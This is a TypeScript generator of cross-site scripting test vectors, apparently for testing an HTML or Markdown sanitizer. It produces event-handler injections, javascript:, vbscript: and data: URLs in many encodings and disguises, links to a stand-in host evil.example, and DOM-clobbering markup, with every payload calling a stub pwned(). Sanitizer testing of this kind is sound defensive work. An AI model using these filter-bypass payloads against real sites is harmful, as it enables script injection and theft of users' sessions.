import { clobbered, events, htmlElements, mathElements, svgElements } from './names.ts';

/** Everything that would call `pwned()` if it ran. */
const RUN = 'pwned()';

const at = <T>(list: readonly T[], index: number): T => list[index % list.length] as T;

/** An event handler on every element, and every event on elements that fire many. */
export function handlerVectors(): string[] {
  const quoted = [
    (event: string) => `${event}=${RUN}`,
    (event: string) => `${event}="${RUN}"`,
    (event: string) => `${event}='${RUN}'`,
    (event: string) => `/${event}\n=\n${RUN}/`,
    (event: string) => `${event.toUpperCase()}=&#112;wned()`,
  ];
  const attributes = 'src=x href=x autofocus tabindex=1 open controls style=animation-name:x';
  const onEach = htmlElements.flatMap((element, index) => [
    `<${element} ${attributes} ${at(quoted, index)('onerror')} ${at(quoted, index + 1)(at(events, index * 7))}>x</${element}>`,
    `<${element.toUpperCase()}/${at(quoted, index + 2)(at(events, index * 11 + 3))}>`,
  ]);
  const inSvg = svgElements.map(
    (element, index) =>
      `<svg><${element} ${at(quoted, index)(at(events, index * 5))} onload=${RUN}>x</${element}></svg>`,
  );
  const inMath = mathElements.map(
    (element, index) =>
      `<math><${element} ${at(quoted, index)(at(events, index * 3))} href=javascript:${RUN}>x</${element}></math>`,
  );
  const everyEvent = ['img src=x', 'svg', 'details open', 'b', 'video src=x', 'a href=https://example.com'].flatMap(
    (start, index) => events.map((event, number) => `<${start} ${at(quoted, number + index)(event)}>x`),
  );
  return [...onEach, ...inSvg, ...inMath, ...everyEvent];
}

const SCHEMES = [
  'javascript',
  'vbscript',
  'data',
  'blob',
  'file',
  'livescript',
  'mocha',
  'about',
  'view-source',
  'ws',
  'intent',
];

function bodyOf(scheme: string): string {
  if (scheme === 'data') return 'text/html,<script>pwned()</script>';
  return ['file', 'blob', 'ws', 'intent'].includes(scheme) ? '//evil.example/x' : RUN;
}

const disguises: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => [...scheme].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join(''),
  ...[' ', '\t', '\n', '\r', '\u0001', '\u001f', '\u00a0', '\u200b', '\u202e', '\ufeff', '\u2028', '%20', '&nbsp;'].map(
    (prefix) => (scheme: string) => prefix + scheme,
  ),
  ...['\t', '\n', '\r', '\0', '\\', '&Tab;', '&NewLine;', '&#9;', '&#x0a;', '&#13', '&shy;', '\u00ad', '/**/'].map(
    (inner) => (scheme: string) => `${scheme.slice(0, 4)}${inner}${scheme.slice(4)}`,
  ),
  (scheme) => [...scheme].map((letter) => `&#${letter.charCodeAt(0)};`).join(''),
  (scheme) => [...scheme].map((letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join(''),
  (scheme) => [...scheme].map((letter) => `&#${String(letter.charCodeAt(0)).padStart(7, '0')};`).join(''),
  (scheme) => [...scheme].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join(''),
  (scheme) => `\\u00${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}`,
];
const colons = [':', '&colon;', '&#58;', '&#x3A', '%3a', '\t:', ':\n', '\uff1a'];

/** Addresses with a scheme that runs or reads something, in every disguise. */
export function addresses(): string[] {
  const all = SCHEMES.flatMap((scheme) =>
    disguises.map(
      (disguise, index) => `${disguise(scheme)}${index % 3 === 0 ? ':' : at(colons, index)}${bodyOf(scheme)}`,
    ),
  );
  return [
    ...all,
    ...colons.map((colon) => `javascript${colon}${RUN}`),
    `javascript://https://example.com/%0a${RUN}`,
    `https://example.com\njavascript:${RUN}`,
    `https:javascript:${RUN}`,
    `//evil.example/x`,
    '\\\\evil.example\\x',
    '/\\evil.example',
    'https:evil.example',
    `https://user:pass@evil.example/`,
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=',
    'data:text/html;charset=utf-7,+ADw-script+AD4-pwned()',
    '/api/session/create',
    '/#token=stolen',
    '/portlet/index.html',
    '#top',
    '?x=1',
    '.',
  ];
}

export const addressVectors = (): string[] =>
  addresses().flatMap((address, index) => [
    `[click](${address})`,
    `[click](<${address}>)`,
    at(
      [
        `<a href="${address}">click</a>`,
        `<a href=${address}>click</a>`,
        `<a xlink:href='${address}'>click</a>`,
        `<${address}>`,
        `[click][r]\n\n[r]: ${address}`,
        `![click](${address})`,
        `<form action="${address}"><button>x</button></form>`,
        `<button formaction="${address}">x</button>`,
        `<iframe src="${address}"></iframe>`,
        `<object data="${address}"></object>`,
        `<embed src="${address}">`,
        `<math href="${address}">x</math>`,
        `<svg><a href="${address}"><text>x</text></a></svg>`,
        `<svg><use href="${address}"/></svg>`,
        `<svg><animate attributeName=href values="${address}"/></svg>`,
        `<base href="${address}">[x](y)`,
        `<meta http-equiv=refresh content="0;url=${address}">`,
        `<link rel=stylesheet href="${address}">`,
        `<script src="${address}"></script>`,
        `<area href="${address}">`,
      ],
      index,
    ),
  ]);

/** Names that hide a property of the document, of a form or of a node. */
export const clobberingVectors = (): string[] =>
  clobbered.flatMap((name, index) => [
    `<a id=${name}></a><a id=${name} name=${name} href=https://example.com>x</a>`,
    `<form id=x><input name=${name}><img name=${name}></form>`,
    at(
      [
        `<form><button id=${name}>x</button></form><form id=${name}><output name=${name}></form>`,
        `<img name=${name} id=${name}><embed name=${name}><object id=${name}></object>`,
        `<iframe name=${name} srcdoc="<a id=${name}>"></iframe>`,
        `<form name=${name}><input id=attributes><input name=parentNode><script>pwned()</script></form>`,
        `<svg id=${name}><a id=${name} href=javascript:pwned()></a></svg>`,
      ],
      index,
    ),
  ]);
